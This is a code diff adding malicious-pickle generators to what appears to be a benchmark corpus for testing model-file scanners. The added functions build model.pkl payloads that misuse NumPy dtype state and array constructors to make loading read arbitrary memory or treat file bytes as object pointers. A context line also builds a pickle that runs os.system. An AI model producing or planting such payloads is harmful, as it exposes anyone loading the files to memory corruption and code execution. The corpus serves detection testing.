@@ -22,6 +22,7 @@ from benchmarks.corpus.pickleasm import (
     TUPLE1,
     TUPLE2,
     binbytes,
+    binint,
     call,
     code_call,
     glob,
@@ -482,6 +483,90 @@ def attribute_dict_build(m: Path) -> bytes:
     built = glob("lightning.pytorch.utilities.parsing", "AttributeDict") + EMPTY_TUPLE + NEWOBJ
     built += MARK + uni("__setstate__") + glob("torch.storage", "_load_from_bytes") + b"u"
     return program(built + binbytes(shell_call("os", "system", m)) + BUILD)
+
+
+# --- NumPy dtype states NumPy never writes (no code runs: NumPy reads bytes as pointers) ------
+
+NUMPY_MEMORY = "PICKLE-NUMPY-MEMORY"
+
+
+def _dtype(name: str, state: bytes | None = None) -> bytes:
+    """numpy.dtype(name, False, True), then BUILD of `state` (opcodes) when given."""
+    made = glob("numpy", "dtype") + uni(name) + b"\x89\x88\x87" + REDUCE
+    return made if state is None else made + state + BUILD
+
+
+def _dtype_state(order: str, names: bytes, fields: bytes, elsize: int, flags: int) -> bytes:
+    return MARK + binint(3) + uni(order) + b"N" + names + fields + binint(elsize) + binint(
+        1 if elsize > 0 else -1
+    ) + binint(flags) + TUPLE  # fmt: skip
+
+
+def _struct_i8_and_object(flags: int) -> bytes:
+    """A 16-byte struct: an int64 at 0, an object at 8, with the given flags."""
+    i8 = _dtype("i8", MARK + binint(3) + uni("<") + b"NNN" + binint(-1) * 2 + binint(0) + TUPLE)
+    o8 = _dtype("O8", MARK + binint(3) + uni("|") + b"NNN" + binint(-1) * 2 + binint(63) + TUPLE)
+    names = MARK + uni("a") + uni("b") + TUPLE
+    fields = EMPTY_DICT + MARK + uni("a") + MARK + i8 + binint(0) + TUPLE
+    fields += uni("b") + MARK + o8 + binint(8) + TUPLE + b"u"
+    return _dtype("V16", _dtype_state("|", names, fields, 16, flags))
+
+
+@technique(
+    "numpy-dtype-object-flags-cleared", family="pickle", filename="model.pkl", expect=NUMPY_MEMORY
+)
+def numpy_dtype_lie(m: Path) -> bytes:
+    """A structured dtype with an object field whose state clears the object flags, then
+    numpy.core.numeric._frombuffer of file bytes: NumPy takes them as PyObject pointers."""
+    raw = struct.pack("<qQ", 7, 0x4141414141414141)
+    args = MARK + binbytes(raw) + _struct_i8_and_object(16) + MARK + binint(1) + TUPLE + uni("C")
+    return program(glob("numpy.core.numeric", "_frombuffer") + args + TUPLE + REDUCE)
+
+
+@technique(
+    "numpy-dtype-field-past-item", family="pickle", filename="model.pkl", expect=NUMPY_MEMORY
+)
+def numpy_dtype_past_item(m: Path) -> bytes:
+    """A 8-byte struct whose int64 field sits at offset 4: every read runs past the item."""
+    i8 = _dtype("i8", MARK + binint(3) + uni("<") + b"NNN" + binint(-1) * 2 + binint(0) + TUPLE)
+    names = MARK + uni("a") + TUPLE
+    fields = EMPTY_DICT + uni("a") + MARK + i8 + binint(4) + TUPLE + b"s"
+    dtype = _dtype("V8", _dtype_state("|", names, fields, 8, 16))
+    args = MARK + binbytes(bytes(8)) + dtype + MARK + binint(1) + TUPLE + uni("C")
+    return program(glob("numpy.core.numeric", "_frombuffer") + args + TUPLE + REDUCE)
+
+
+@technique("numpy-ndarray-over-bytes", family="pickle", filename="model.pkl", expect=NUMPY_MEMORY)
+def numpy_ndarray_over_bytes(m: Path) -> bytes:
+    """numpy.ndarray((1,), dtype('O'), buffer): an object array over the file's own bytes
+    (numpy.frombuffer refuses this; the constructor does not): NumPy follows the pointers."""
+    o8 = _dtype("O8", MARK + binint(3) + uni("|") + b"NNN" + binint(-1) * 2 + binint(63) + TUPLE)
+    shape = MARK + binint(1) + TUPLE
+    return program(call(glob("numpy", "ndarray"), shape, o8, binbytes(b"A" * 8)))
+
+
+@technique(
+    "numpy-array-interface-address", family="pickle", filename="model.pkl", expect=STATE_CALL
+)
+def numpy_array_interface(m: Path) -> bytes:
+    """A masked array whose fill_value is a SimpleNamespace given __array_interface__ by its
+    BUILD: pickle.load makes NumPy read memory at the address it names (0x41414141)."""
+    interface = EMPTY_DICT + MARK + uni("shape") + MARK + binint(1) + TUPLE + uni("typestr")
+    interface += uni("<f8") + uni("data") + MARK + binint(0x41414141) + b"\x88" + TUPLE
+    interface += uni("version") + binint(3) + b"u"
+    namespace = glob("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE
+    namespace += EMPTY_DICT + uni("__array_interface__") + interface + b"s" + BUILD
+    made = call(
+        glob("numpy.ma.core", "_mareconstruct"),
+        glob("numpy.ma", "MaskedArray"),
+        glob("numpy", "ndarray"),
+        MARK + binint(0) + TUPLE,
+        binbytes(b"b"),
+    )
+    f8 = _dtype("f8", MARK + binint(3) + uni("<") + b"NNN" + binint(-1) * 2 + binint(0) + TUPLE)
+    state = MARK + binint(1) + MARK + binint(1) + TUPLE + f8 + b"\x89" + binbytes(bytes(8))
+    state += binbytes(b"\x00") + namespace + TUPLE
+    return program(made + state + BUILD)
 
 
 # --- Broken streams ---------------------------------------------------------------------------
